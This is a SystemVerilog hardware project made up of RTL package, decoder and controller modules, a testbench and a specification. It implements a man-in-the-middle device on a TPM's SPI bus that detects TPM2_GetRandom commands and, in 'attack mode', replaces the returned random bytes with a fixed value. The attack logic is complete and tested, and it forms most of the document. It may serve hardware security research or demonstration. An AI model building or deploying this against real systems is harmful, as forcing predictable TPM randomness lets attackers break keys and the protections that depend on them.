// File: rtl/tpm_spi_pkg.sv
// Shared constants for the TPM SPI MITM slice: FIFO address, GetRandom template, header/response field positions.
// Pure constants and a byte-match helper; no timing or flow control of its own.
package tpm_spi_pkg;

    localparam logic [23:0] TPM_FIFO_ADDR = 24'hD40024;

    localparam logic [15:0] GR_TAG  = 16'h8001;
    localparam logic [31:0] GR_LEN  = 32'h0000000C;
    localparam logic [31:0] GR_CODE = 32'h0000017B;
    localparam logic [79:0] GR_CMD  = {GR_TAG, GR_LEN, GR_CODE};
    localparam logic [3:0]  GR_CMD_LAST = 4'd11;

    localparam int          HDR_RW_BIT   = 7;
    localparam int          HDR_SIZE_MSB = 5;
    localparam logic [1:0]  HDR_LAST_IDX = 2'd3;

    localparam logic [6:0]  RSP_LEN_FIRST  = 7'd2;
    localparam logic [6:0]  RSP_LEN_LAST   = 7'd5;
    localparam logic [6:0]  RSP_RC_FIRST   = 7'd6;
    localparam logic [6:0]  RSP_RC_LAST    = 7'd9;
    localparam logic [6:0]  RSP_DIG_HI     = 7'd10;
    localparam logic [6:0]  RSP_DIG_LO     = 7'd11;
    localparam logic [6:0]  RSP_RAND_FIRST = 7'd12;

    localparam logic [1:0]  FS_IDLE = 2'd0;
    localparam logic [1:0]  FS_HDR  = 2'd1;
    localparam logic [1:0]  FS_DATA = 2'd2;
    localparam logic [1:0]  FS_SKIP = 2'd3;

    // Indices 10 and 11 (the requested byte count) accept any value.
    function automatic logic gr_cmd_match(input logic [3:0] idx, input logic [7:0] b);
        logic [79:0] sh;
        if (idx > 4'd9) begin
            return 1'b1;
        end
        sh = GR_CMD >> (8 * (9 - int'(idx)));
        return b == sh[7:0];
    endfunction

endpackage

// File: rtl/tpm_spi_hdr_decoder.sv
// TPM SPI frame decoder: 4-byte header (rw, size, 24-bit address), then DATA for the FIFO register or SKIP.
// Outputs are registered state plus same-cycle qualifiers of byte_done; no backpressure, the SPI master sets the pace.
module tpm_spi_hdr_decoder
    import tpm_spi_pkg::*;
#(
    parameter logic [23:0] FIFO_ADDR = TPM_FIFO_ADDR
) (
    input  logic       sys_clk,
    input  logic       rst_n,
    input  logic       frame_start,
    input  logic       frame_end,
    input  logic       byte_done,
    input  logic [7:0] mosi_byte,
    output logic       is_fifo,
    output logic       rw,
    output logic [6:0] data_idx,
    output logic [6:0] size,
    output logic       data_byte_valid,
    output logic       hdr_done
);

    logic [1:0]  state;
    logic [1:0]  hdr_idx;
    logic [15:0] addr_hi;
    logic        addr_match;

    assign addr_match      = {addr_hi, mosi_byte} == FIFO_ADDR;
    assign is_fifo         = state == FS_DATA;
    assign data_byte_valid = is_fifo && byte_done && !frame_start && (data_idx < size);
    assign hdr_done        = (state == FS_HDR) && byte_done && !frame_start &&
                             (hdr_idx == HDR_LAST_IDX) && addr_match;

    always_ff @(posedge sys_clk or negedge rst_n) begin
        if (!rst_n) begin
            state    <= FS_IDLE;
            hdr_idx  <= 2'd0;
            addr_hi  <= 16'h0000;
            rw       <= 1'b0;
            size     <= 7'd0;
            data_idx <= 7'd0;
        end else if (frame_start) begin
            // A restart drops whatever byte completes alongside it.
            state    <= FS_HDR;
            hdr_idx  <= 2'd0;
            data_idx <= 7'd0;
        end else begin
            if (byte_done) begin
                case (state)
                    FS_HDR: begin
                        hdr_idx <= hdr_idx + 2'd1;
                        if (hdr_idx == 2'd0) begin
                            rw   <= mosi_byte[HDR_RW_BIT];
                            size <= {1'b0, mosi_byte[HDR_SIZE_MSB:0]} + 7'd1;
                        end else if (hdr_idx != HDR_LAST_IDX) begin
                            addr_hi <= {addr_hi[7:0], mosi_byte};
                        end else begin
                            state    <= addr_match ? FS_DATA : FS_SKIP;
                            data_idx <= 7'd0;
                        end
                    end
                    FS_DATA: begin
                        if (data_idx != 7'h7F) begin
                            data_idx <= data_idx + 7'd1;
                        end
                    end
                    default: ;
                endcase
            end
            if (frame_end) begin
                state <= FS_IDLE;
            end
        end
    end

endmodule

// File: rtl/tpm_getrandom_mitm_ctrl.sv
// Tracks TPM2_GetRandom commands/responses through the FIFO register and flags random response bytes for override.
// Override decision registered 1 cycle after the previous byte_done; no backpressure, needs >=2 cycle byte gap.
module tpm_getrandom_mitm_ctrl
    import tpm_spi_pkg::*;
#(
    parameter logic [23:0] FIFO_ADDR     = TPM_FIFO_ADDR,
    parameter int          NUM_DATA_BITS = 8,
    parameter logic [NUM_DATA_BITS-1:0] REPLACE_BYTE = 8'h00,
    parameter int          MAX_RESP_LEN  = 64
) (
    input  logic                     sys_clk,
    input  logic                     rst_n,
    input  logic                     attack_en,
    input  logic                     frame_start,
    input  logic                     frame_end,
    input  logic                     byte_done,
    input  logic [NUM_DATA_BITS-1:0] mosi_byte,
    input  logic [NUM_DATA_BITS-1:0] miso_byte,
    output logic                     ovr_en,
    output logic [NUM_DATA_BITS-1:0] ovr_data,
    output logic                     cmd_armed,
    output logic                     resp_done,
    output logic [15:0]              replaced_cnt
);

    logic       is_fifo;
    logic       rw;
    logic [6:0] data_idx;
    logic [6:0] size;
    logic       data_byte_valid;
    logic       hdr_done;

    tpm_spi_hdr_decoder #(
        .FIFO_ADDR (FIFO_ADDR)
    ) u_hdr (
        .sys_clk         (sys_clk),
        .rst_n           (rst_n),
        .frame_start     (frame_start),
        .frame_end       (frame_end),
        .byte_done       (byte_done),
        .mosi_byte       (mosi_byte),
        .is_fifo         (is_fifo),
        .rw              (rw),
        .data_idx        (data_idx),
        .size            (size),
        .data_byte_valid (data_byte_valid),
        .hdr_done        (hdr_done)
    );

    logic [3:0]  cmd_idx;
    logic [6:0]  rsp_idx;
    logic [31:0] resp_len;
    logic [15:0] dig_n;

    logic [3:0]  cmd_idx_nxt;
    logic        armed_nxt;
    logic [6:0]  rsp_idx_nxt;
    logic [31:0] resp_len_nxt;
    logic [15:0] dig_n_nxt;
    logic        done_nxt;
    logic [3:0]  eff_idx;
    logic [31:0] len_full;
    logic        wr_byte;
    logic        rd_byte;

    assign ovr_data = REPLACE_BYTE;
    assign wr_byte  = data_byte_valid && !rw;
    assign rd_byte  = data_byte_valid && rw && cmd_armed;

    always_comb begin
        cmd_idx_nxt  = cmd_idx;
        armed_nxt    = cmd_armed;
        rsp_idx_nxt  = rsp_idx;
        resp_len_nxt = resp_len;
        dig_n_nxt    = dig_n;
        done_nxt     = 1'b0;
        eff_idx      = cmd_armed ? 4'd0 : cmd_idx;
        len_full     = {resp_len[23:0], miso_byte};
        if (wr_byte) begin
            // Any new command write abandons a pending response.
            armed_nxt = 1'b0;
            if (gr_cmd_match(eff_idx, mosi_byte)) begin
                if (eff_idx == GR_CMD_LAST) begin
                    armed_nxt   = 1'b1;
                    cmd_idx_nxt = 4'd0;
                    rsp_idx_nxt = 7'd0;
                end else begin
                    cmd_idx_nxt = eff_idx + 4'd1;
                end
            end else begin
                cmd_idx_nxt = gr_cmd_match(4'd0, mosi_byte) ? 4'd1 : 4'd0;
            end
        end else if (rd_byte) begin
            rsp_idx_nxt = rsp_idx + 7'd1;
            if (rsp_idx >= RSP_LEN_FIRST && rsp_idx <= RSP_LEN_LAST) begin
                resp_len_nxt = len_full;
            end
            if (rsp_idx == RSP_LEN_LAST &&
                (len_full < 32'd12 || len_full > 32'(MAX_RESP_LEN))) begin
                armed_nxt = 1'b0;
            end
            if (rsp_idx >= RSP_RC_FIRST && rsp_idx <= RSP_RC_LAST && miso_byte != 8'h00) begin
                armed_nxt = 1'b0;
            end
            if (rsp_idx == RSP_DIG_HI) begin
                dig_n_nxt = {8'h00, miso_byte};
            end
            if (rsp_idx == RSP_DIG_LO) begin
                dig_n_nxt = {dig_n[7:0], miso_byte};
            end
            if (rsp_idx > RSP_LEN_LAST && {25'd0, rsp_idx} == resp_len - 32'd1) begin
                done_nxt  = 1'b1;
                armed_nxt = 1'b0;
            end
        end
    end

    logic nxt_rd;
    logic in_rng;
    logic decision;

    // Decide for the byte that follows the one completing now, using post-update parser state.
    assign nxt_rd = rw && !frame_start && !frame_end &&
                    (hdr_done || (is_fifo && byte_done &&
                                  (({1'b0, data_idx} + 8'd1) < {1'b0, size})));
    assign in_rng = armed_nxt && (rsp_idx_nxt >= RSP_RAND_FIRST) &&
                    ({10'd0, rsp_idx_nxt} < ({1'b0, dig_n_nxt} + 17'd12)) &&
                    ({25'd0, rsp_idx_nxt} < resp_len_nxt);
    assign decision = attack_en && nxt_rd && in_rng;

    always_ff @(posedge sys_clk or negedge rst_n) begin
        if (!rst_n) begin
            cmd_idx      <= 4'd0;
            cmd_armed    <= 1'b0;
            rsp_idx      <= 7'd0;
            resp_len     <= 32'd0;
            dig_n        <= 16'd0;
            resp_done    <= 1'b0;
            ovr_en       <= 1'b0;
            replaced_cnt <= 16'd0;
        end else begin
            cmd_idx   <= cmd_idx_nxt;
            cmd_armed <= armed_nxt;
            rsp_idx   <= rsp_idx_nxt;
            resp_len  <= resp_len_nxt;
            dig_n     <= dig_n_nxt;
            resp_done <= done_nxt;
            if (frame_start || frame_end) begin
                ovr_en <= 1'b0;
            end else if (byte_done) begin
                ovr_en <= decision;
            end
            if (byte_done && ovr_en && replaced_cnt != 16'hFFFF) begin
                replaced_cnt <= replaced_cnt + 16'd1;
            end
        end
    end

endmodule

// File: tb/tb_tpm_getrandom_mitm_ctrl.sv
// Directed bench for tpm_getrandom_mitm_ctrl: GetRandom command/response over various frame sizes.
module tb_tpm_getrandom_mitm_ctrl;

    localparam logic [23:0] A_FIFO  = 24'hD40024;
    localparam logic [23:0] A_OTHER = 24'hD40018;

    logic        sys_clk = 1'b0;
    logic        rst_n = 1'b0;
    logic        attack_en = 1'b0;
    logic        frame_start = 1'b0;
    logic        frame_end = 1'b0;
    logic        byte_done = 1'b0;
    logic [7:0]  mosi_byte = 8'h00;
    logic [7:0]  miso_byte = 8'h00;
    logic        ovr_en;
    logic [7:0]  ovr_data;
    logic        cmd_armed;
    logic        resp_done;
    logic [15:0] replaced_cnt;

    int total = 0;
    int bad = 0;
    int done_cnt = 0;
    bit exp_rep = 1'b0;

    logic [7:0] cmd [0:11];
    logic [7:0] rsp [0:19];

    tpm_getrandom_mitm_ctrl dut (
        .sys_clk      (sys_clk),
        .rst_n        (rst_n),
        .attack_en    (attack_en),
        .frame_start  (frame_start),
        .frame_end    (frame_end),
        .byte_done    (byte_done),
        .mosi_byte    (mosi_byte),
        .miso_byte    (miso_byte),
        .ovr_en       (ovr_en),
        .ovr_data     (ovr_data),
        .cmd_armed    (cmd_armed),
        .resp_done    (resp_done),
        .replaced_cnt (replaced_cnt)
    );

    always #5 sys_clk = ~sys_clk;

    always @(negedge sys_clk) begin
        if (resp_done) done_cnt++;
    end

    task automatic chk(input string tag, input logic [31:0] got, input logic [31:0] exp);
        total++;
        if (got !== exp) begin
            bad++;
            $display("FAIL %s: got=%0h exp=%0h", tag, got, exp);
        end
    endtask

    task automatic do_reset();
        @(negedge sys_clk);
        rst_n = 1'b0;
        repeat (2) @(negedge sys_clk);
        rst_n = 1'b1;
        @(negedge sys_clk);
    endtask

    // Checks the override state that applies to this byte, then shifts it.
    task automatic xfer(input logic [7:0] mo, input logic [7:0] mi, input logic exp_ovr, input string tag);
        @(negedge sys_clk);
        chk(tag, 32'(ovr_en), 32'(exp_ovr));
        mosi_byte = mo;
        miso_byte = mi;
        byte_done = 1'b1;
        @(negedge sys_clk);
        byte_done = 1'b0;
        repeat (2) @(negedge sys_clk);
    endtask

    task automatic frame_begin();
        @(negedge sys_clk);
        frame_start = 1'b1;
        @(negedge sys_clk);
        frame_start = 1'b0;
        @(negedge sys_clk);
    endtask

    task automatic frame_stop();
        @(negedge sys_clk);
        frame_end = 1'b1;
        @(negedge sys_clk);
        frame_end = 1'b0;
    endtask

    task automatic hdr(input logic is_read, input int n, input logic [23:0] addr);
        logic [5:0] sz;
        sz = 6'(n - 1);
        xfer({is_read, 1'b0, sz}, 8'h00, 1'b0, "hdr0");
        xfer(addr[23:16], 8'h00, 1'b0, "hdr1");
        xfer(addr[15:8],  8'h00, 1'b0, "hdr2");
        xfer(addr[7:0],   8'h01, 1'b0, "hdr3");
    endtask

    task automatic do_frame(input logic is_read, input logic [23:0] addr, input int start, input int n);
        int j;
        frame_begin();
        hdr(is_read, n, addr);
        for (int i = 0; i < n; i++) begin
            j = start + i;
            if (is_read)
                xfer(8'h00, rsp[j], exp_rep && j >= 12 && j <= 19, $sformatf("rd%0d", j));
            else
                xfer(cmd[j], 8'hFF, 1'b0, $sformatf("wr%0d", j));
        end
        frame_stop();
    endtask

    task automatic wr_cmd(input logic [23:0] addr, input int chunk);
        for (int s = 0; s < 12; s += chunk) do_frame(1'b0, addr, s, chunk);
    endtask

    task automatic rd_rsp(input int from, input int to, input int chunk);
        for (int s = from; s <= to; s += chunk) do_frame(1'b1, A_FIFO, s, chunk);
    endtask

    initial begin
        cmd = '{8'h80, 8'h01, 8'h00, 8'h00, 8'h00, 8'h0C, 8'h00, 8'h00, 8'h01, 8'h7B, 8'h00, 8'h08};
        rsp = '{8'h80, 8'h01, 8'h00, 8'h00, 8'h00, 8'h14, 8'h00, 8'h00, 8'h00, 8'h00,
                8'h00, 8'h08, 8'hA0, 8'hA1, 8'hA2, 8'hA3, 8'hA4, 8'hA5, 8'hA6, 8'hA7};

        // reset state
        repeat (2) @(negedge sys_clk);
        chk("rst_ovr_en", 32'(ovr_en), 32'd0);
        chk("rst_ovr_data", 32'(ovr_data), 32'h00);
        chk("rst_armed", 32'(cmd_armed), 32'd0);
        chk("rst_done", 32'(resp_done), 32'd0);
        chk("rst_cnt", 32'(replaced_cnt), 32'd0);
        rst_n = 1'b1;

        // 1-byte frames, attack on
        attack_en = 1'b1;
        exp_rep = 1'b1;
        for (int s = 0; s < 11; s++) do_frame(1'b0, A_FIFO, s, 1);
        chk("t1_armed_11", 32'(cmd_armed), 32'd0);
        do_frame(1'b0, A_FIFO, 11, 1);
        chk("t1_armed_12", 32'(cmd_armed), 32'd1);
        rd_rsp(0, 19, 1);
        chk("t1_cnt", 32'(replaced_cnt), 32'd8);
        chk("t1_done", 32'(done_cnt), 32'd1);
        chk("t1_disarm", 32'(cmd_armed), 32'd0);
        chk("t1_ovr_data", 32'(ovr_data), 32'h00);

        // 4-byte frames
        wr_cmd(A_FIFO, 4);
        chk("t2_armed", 32'(cmd_armed), 32'd1);
        rd_rsp(0, 19, 4);
        chk("t2_cnt", 32'(replaced_cnt), 32'd16);
        chk("t2_done", 32'(done_cnt), 32'd2);

        // incomplete command: only 10 bytes
        exp_rep = 1'b0;
        do_frame(1'b0, A_FIFO, 0, 5);
        do_frame(1'b0, A_FIFO, 5, 5);
        chk("t3_armed", 32'(cmd_armed), 32'd0);
        rd_rsp(0, 19, 4);
        chk("t3_cnt", 32'(replaced_cnt), 32'd16);
        chk("t3_done", 32'(done_cnt), 32'd2);

        // attack disabled
        do_reset();
        attack_en = 1'b0;
        wr_cmd(A_FIFO, 2);
        chk("t4_armed", 32'(cmd_armed), 32'd1);
        rd_rsp(0, 19, 2);
        chk("t4_done", 32'(done_cnt), 32'd3);
        chk("t4_disarm", 32'(cmd_armed), 32'd0);
        chk("t4_cnt", 32'(replaced_cnt), 32'd0);

        // wrong address, then failing response code
        attack_en = 1'b1;
        wr_cmd(A_OTHER, 4);
        chk("t5_skip_armed", 32'(cmd_armed), 32'd0);
        rsp[9] = 8'h01;
        wr_cmd(A_FIFO, 4);
        chk("t5_armed", 32'(cmd_armed), 32'd1);
        rd_rsp(0, 8, 1);
        chk("t5_armed_b8", 32'(cmd_armed), 32'd1);
        rd_rsp(9, 9, 1);
        chk("t5_disarm_b9", 32'(cmd_armed), 32'd0);
        rd_rsp(10, 19, 1);
        chk("t5_cnt", 32'(replaced_cnt), 32'd0);
        chk("t5_done", 32'(done_cnt), 32'd3);
        rsp[9] = 8'h00;

        // async reset during response byte 14
        do_reset();
        exp_rep = 1'b1;
        do_frame(1'b0, A_FIFO, 0, 12);
        chk("t6_armed", 32'(cmd_armed), 32'd1);
        rd_rsp(0, 13, 1);
        chk("t6_cnt_pre", 32'(replaced_cnt), 32'd2);
        frame_begin();
        hdr(1'b1, 1, A_FIFO);
        @(negedge sys_clk);
        chk("t6_ovr_pre", 32'(ovr_en), 32'd1);
        rst_n = 1'b0;
        #1;
        chk("t6_rst_ovr", 32'(ovr_en), 32'd0);
        chk("t6_rst_armed", 32'(cmd_armed), 32'd0);
        chk("t6_rst_cnt", 32'(replaced_cnt), 32'd0);
        repeat (2) @(negedge sys_clk);
        rst_n = 1'b1;
        frame_stop();
        exp_rep = 1'b0;
        do_frame(1'b1, A_FIFO, 15, 5);
        chk("t6_post_cnt", 32'(replaced_cnt), 32'd0);
        chk("t6_post_armed", 32'(cmd_armed), 32'd0);

        $display("test done: total=%0d bad=%0d", total, bad);
        $finish;
    end

endmodule

// File: doc/tpm_getrandom_mitm_ctrl.md
Name: tpm_getrandom_mitm_ctrl

Overview:
- Byte-level controller for the SPI MITM datapath on the TPM bus.
- Decodes TPM SPI frame headers and reassembles TPM2_GetRandom commands written to the FIFO register, possibly split across several frames.
- Tracks the matching response read back from the FIFO.
- In attack mode, tells the MISO path which response bytes to replace. The random bytes are replaced with a fixed value.
- Sits between the SPI byte snooper and the MISO override mux.

Parameters:
- FIFO_ADDR, 24'hD40024, TPM FIFO register address matched in header bytes 1-3.
- REPLACE_BYTE, 8'h00, value driven in place of each random byte.
- NUM_DATA_BITS, 8, byte width; fixed at 8.
- MAX_RESP_LEN, 64, responses whose length field exceeds this are not tracked.

Ports:
- sys_clk  in  1  system clock.
- rst_n  in  1  asynchronous active-low reset.
- attack_en  in  1  attack mode; 1 enables overrides.
- frame_start  in  1  1-cycle pulse when SS becomes active.
- frame_end  in  1  1-cycle pulse when SS becomes inactive.
- byte_done  in  1  1-cycle pulse when a full byte has been shifted on both lines.
- mosi_byte  in  8  MOSI byte, valid with byte_done.
- miso_byte  in  8  MISO byte, valid with byte_done; this is the original TPM data, before override.
- ovr_en  out  1  1 means the MISO mux drives ovr_data for the current byte.
- ovr_data  out  8  override byte; equals REPLACE_BYTE.
- cmd_armed  out  1  a complete GetRandom command has been seen and its response is pending.
- resp_done  out  1  1-cycle pulse when the tracked response completes.
- replaced_cnt  out  16  total bytes replaced; saturates at 16'hFFFF.

Behaviour:
- Reset values:
  - Outputs: ovr_en=0, ovr_data=REPLACE_BYTE, cmd_armed=0, resp_done=0, replaced_cnt=0.
  - Internal state: frame FSM = IDLE, all indices = 0.
- Frame FSM, states IDLE, HDR, DATA, SKIP:
  - frame_start in any state → HDR with hdr_idx=0. A restart discards any partial header.
  - HDR, byte 0: rw=mosi[7], size=mosi[5:0]+1.
  - HDR, bytes 1-3: address is accumulated MSB first.
  - After byte 3: address==FIFO_ADDR → DATA, otherwise SKIP.
  - DATA and SKIP both consume bytes until frame_end, then → IDLE.
  - Bytes beyond size in DATA are ignored.
  - frame_end in HDR → IDLE. Command and response indices are preserved.
- TPM wait states (MISO byte 3 bit0=0) are not supported; byte 4 is always the first data byte.
- Command parser, write-FIFO data bytes:
  - cmd_idx 0..11 persists across frames.
  - Expected bytes: 80 01 00 00 00 0C 00 00 01 7B, then any 2 bytes.
  - Mismatch → cmd_idx=0, and the same byte is re-checked as index 0.
  - Match at index 11 → cmd_armed=1, rsp_idx=0.
  - A write-FIFO data byte while armed → cmd_armed=0, and that byte is parsed as command index 0.
- Response parser, read-FIFO data bytes, only while cmd_armed:
  - rsp_idx counts the miso bytes.
  - Bytes 2-5 give resp_len. If resp_len<12 or >MAX_RESP_LEN → disarm at byte 5.
  - Bytes 6-9 are the response code. Any nonzero byte → disarm.
  - Bytes 10-11 give digest size n.
  - Random range is rsp_idx 12..12+n-1, clamped to resp_len-1.
  - When rsp_idx reaches resp_len-1, at its byte_done: resp_done pulse, cmd_armed=0.
- Override timing:
  - The decision for data byte k is registered 1 sys_clk after byte_done of byte k-1. For the first data byte, byte k-1 is header byte 3.
  - ovr_en stays high until 1 cycle after byte_done of byte k.
  - ovr_en=1 only if all hold: frame in DATA, rw=read, cmd_armed, k is in the random range, and attack_en is sampled 1 at decision time.
  - Required byte gap: ≥2 sys_clk between byte_done and the first SCLK edge of the next byte.
  - frame_end forces ovr_en=0 the next cycle.
  - replaced_cnt increments on each byte_done while ovr_en=1.
- Simultaneous events:
  - frame_start and byte_done in the same cycle: frame_start wins and the byte is dropped.
  - frame_end and byte_done in the same cycle: the byte is processed first, then → IDLE.
- Asynchronous reset mid-frame: all outputs go to reset values immediately, with no glitch on ovr_en beyond the deassertion.

Decomposition:
- Shared package tpm_spi_pkg holds:
  - FIFO address.
  - GetRandom command template: tag 8001, len 0000000C, code 0000017B.
  - Header field positions.
  - Frame-state enumeration.
- One sub-module, tpm_spi_hdr_decoder, implements the HDR/DATA/SKIP FSM. It outputs is_fifo, rw, data_idx and data_byte_valid.
- Command and response parsers live in the top module.

Test Plan:
- Default FIFO_ADDR, 1-byte writes of the 12-byte command, then 1-byte reads of the 20-byte response (n=8) with attack_en=1 → cmd_armed after write 12; ovr_en only on response bytes 12-19; ovr_data=00; replaced_cnt=8; resp_done after byte 19.
- Same transaction with 4-byte writes and 4-byte reads, header byte0 = 0x03 / 0x83 → identical response: 8 bytes replaced, header bytes never overridden.
- 5-byte writes (two frames, 10 bytes) → command is incomplete: cmd_armed stays 0, no override, replaced_cnt unchanged.
- attack_en=0, full 2-byte transaction → cmd_armed=1 then resp_done; ovr_en never asserted; replaced_cnt=0.
- Write to address D40018 with command bytes → SKIP; not armed. Then a command is sent whose response code byte 9 is 0x01 → disarmed at byte 9, no override.
- rst_n pulled low during response byte 14 → ovr_en=0 asynchronously; all counters 0; the next read frame is not overridden.
